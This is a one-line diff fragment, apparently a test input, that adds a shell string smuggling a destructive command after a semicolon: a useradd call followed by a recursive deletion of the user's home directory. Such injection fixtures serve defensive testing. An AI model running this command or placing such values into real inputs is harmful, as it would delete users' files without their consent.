@@ -1,0 +1,1 @@
+'useradd' other; rm -rf "$HOME"
